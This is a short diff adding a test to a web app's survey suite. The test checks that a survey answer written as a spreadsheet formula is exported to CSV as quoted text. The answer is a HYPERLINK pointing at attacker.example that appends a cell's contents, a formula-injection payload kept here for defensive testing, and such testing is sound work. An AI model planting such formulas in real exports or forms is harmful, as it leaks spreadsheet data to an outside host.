@@ -323,6 +323,20 @@ def test_results_sum_up_the_answers(client, world):
     ]
 
 
+def test_an_answer_that_would_run_as_a_formula_reaches_the_csv_as_text(client, world):
+    survey = build(world, status="open")
+    _recipient, token = send_to(survey, company=world["company"])
+    formula = '=HYPERLINK("https://attacker.example/?leak="&C2,"Open")'
+    # Sent without an account, through the e-mailed link.
+    client.post(f"/en/partners/surveys/answer/{token}/", answer_data(survey, text=formula))
+    client.force_login(world["coordinator"])
+    export = client.get(f"/en/partners/surveys/{survey.pk}/results/", {"format": "csv"})
+    table = list(csv.reader(io.StringIO(export.content.decode("utf-8-sig"))))
+    assert table[1][-1] == "'" + formula
+    # The scale answer is still a plain number.
+    assert table[1][-2] == "4"
+
+
 @pytest.mark.parametrize(
     ("who", "status"),
     [
